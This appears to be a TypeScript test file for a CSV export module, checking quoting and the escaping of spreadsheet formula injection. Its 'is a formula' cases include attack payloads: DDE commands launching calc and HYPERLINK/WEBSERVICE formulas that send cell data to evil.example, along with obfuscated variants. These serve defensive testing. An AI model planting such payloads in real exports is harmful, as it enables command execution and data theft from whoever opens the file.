import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvSeparators } from '../../shared/history.ts';
import { csvRecord, escapeFormula, isFormula } from './csv.ts';
import { parseCsv } from './testing/parse-csv.ts';

describe('a record', () => {
  it.each<[string, (string | null)[], string]>([
    ['ends with CRLF', ['a', 'b'], 'a,b\r\n'],
    ['leaves a missing value empty', ['a', null, ''], 'a,,\r\n'],
    ['of one empty field is not an empty line', [null], '""\r\n'],
    ['keeps numbers unchanged', ['-1.50', '0.00000490', '1e5'], '-1.50,0.00000490,1e5\r\n'],
    ['quotes fields with the separator', ['a,b', 'c'], '"a,b",c\r\n'],
    ['quotes fields with another separator', ['a;b', 'c\td'], '"a;b","c\td"\r\n'],
    ['doubles quotes', ['say "no"'], '"say ""no"""\r\n'],
    ['quotes line ends of every kind', ['a\nb', 'c\rd', 'e\r\nf'], '"a\nb","c\rd","e\r\nf"\r\n'],
    ['quotes white space at an end', [' a', 'b ', 'c d'], '" a","b ",c d\r\n'],
    ['does not start like another format', ['ID', 'Id', 'BID'], '"ID",Id,BID\r\n'],
    ['escapes formulas', ['=1+1', '@a,b', '-1'], '\'=1+1,"\'@a,b",-1\r\n'],
  ])('%s', (_name, fields, expected) => {
    expect(csvRecord(fields, 'comma')).toBe(expected);
  });

  it('uses the chosen separator', () => {
    expect(csvRecord(['a', '1.5', 'x,y'], 'semicolon')).toBe('a;1.5;"x,y"\r\n');
    expect(csvRecord(['a', '1.5', 'x,y'], 'tab')).toBe('a\t1.5\t"x,y"\r\n');
  });
});

const field = fc.option(
  fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc.string({ unit: fc.constantFrom(...'",;\t\r\n \'=+-@0a'), maxLength: 10 }),
    fc.constantFrom('-1.5', '', 'BTC-USDT'),
  ),
);

it.each(csvSeparators)('a strict reader reads any records back: %s', (separator) => {
  const records = fc
    .integer({ min: 1, max: 6 })
    .chain((length) => fc.array(fc.array(field, { minLength: length, maxLength: length }), { maxLength: 6 }));
  fc.assert(
    fc.property(records, (given) => {
      const text = given.map((record) => csvRecord(record, separator)).join('');
      expect(parseCsv(text, separator)).toEqual(
        given.map((record) => record.map((value) => (value === null ? '' : escapeFormula(value)))),
      );
    }),
    { numRuns: 1000 },
  );
});

it('the reader of these tests rejects what RFC 4180 does not allow', () => {
  for (const text of ['a,b', 'a\n', 'a,"b\r\n', 'a,b"c\r\n', '"a"b\r\n', 'a\r\nb,c\r\n', 'a\rb\r\n']) {
    expect(() => parseCsv(text), text).toThrow();
  }
});

describe('is a formula', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '+1+1',
    '+1',
    "+cmd|' /C calc'!A0",
    '-1+1',
    "-2+3+cmd|' /C calc'!A0",
    '-1.5.2',
    '-1e5',
    '-',
    '--1',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '@',
    // Some programs remove the first character and evaluate the rest.
    '\t=1+1',
    '\tharmless',
    '\r=1+1',
    '\rharmless',
    '\n=1+1',
    '\nharmless',
    '\r\n=1+1',
    // Behind characters that are invisible or removed.
    ' =1+1',
    '   @A1',
    '\u00A0=1+1',
    '\u3000=1+1',
    '\u2028=1+1',
    '\u200B=1+1',
    '\u200E=1+1',
    '\u202E=1+1',
    '\u00AD=1+1',
    '\uFEFF=1+1',
    '\u0000=1+1',
    '\u001B=1+1',
    '\u0085=1+1',
    '"=1+1"',
    '""=1+1',
    "'=1+1",
    '`=1+1',
    '“=1+1”',
    '‘=1+1’',
    '«=1+1»',
    '＂=1+1',
    ' " \t=1+1',
    "'\t",
    // Compatibility forms of the same characters.
    '\uFF1D1+1',
    '\uFF0B1+1',
    '\uFF0D1+1',
    '\uFF20A1',
    '\uFE66' + '1+1',
    '\uFE62' + '1',
    '\uFE63' + '1',
    '\uFE6B' + 'A1',
    '\u207C1',
    '\u208C1',
    '\u207A1',
    '\u207B1',
    '\u22121+1',
    ' \uFF1D1+1',
    '"\uFF0B1',
    // No plain decimals, so a program may compute them.
    '-1,5',
    '-.5',
    '-1.',
    '-1 000',
    '-١٢',
  ])('%j', (text) => {
    expect(isFormula(text)).toBe(true);
    expect(escapeFormula(text)).toBe(`'${text}`);
  });
});

describe('is no formula and stays unchanged', () => {
  it.each([
    '',
    '0',
    '-1',
    '-1.5',
    '-0.00000490',
    '1.50',
    '123456789012345678901234567890.000000000000000000000000000001',
    `-${'9'.repeat(60)}`,
    'BTC-USDT',
    '币安人生-USDT',
    'buy-limit',
    'a=1',
    '1+1',
    '2025-03-02T14:05:09.000-05:00',
    'isolated:1001',
    '{"profit":"=1+1"}',
    'unknown:=1',
    '"quoted"',
    "'",
    '   ',
    '–',
    '#NAME?',
    '(1)',
    '😀',
  ])('%j', (text) => {
    expect(isFormula(text)).toBe(false);
    expect(escapeFormula(text)).toBe(text);
  });
});

const ingredients = [...'=+-@\t\r\n "\'`“’＝－＠\u2212\u200B\u0000aZ0.5,;|(){}'];
const hostileText = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom(...ingredients), maxLength: 12 }),
);

describe('escaping of any text', () => {
  it('can be undone', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const escaped = escapeFormula(text);
        const readBack = escaped.startsWith("'") && isFormula(escaped.slice(1)) ? escaped.slice(1) : escaped;
        expect(readBack).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });

  it('leaves no dangerous first character, except the minus sign of a plain decimal', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const escaped = escapeFormula(text);
        if (/^-\d+(\.\d+)?$/.test(escaped)) return;
        expect(escaped.trimStart().normalize('NFKC')).not.toMatch(/^[=+\-@]/);
        expect(escaped).not.toMatch(/^[\t\r\n]/);
      }),
      { numRuns: 2000 },
    );
  });
});
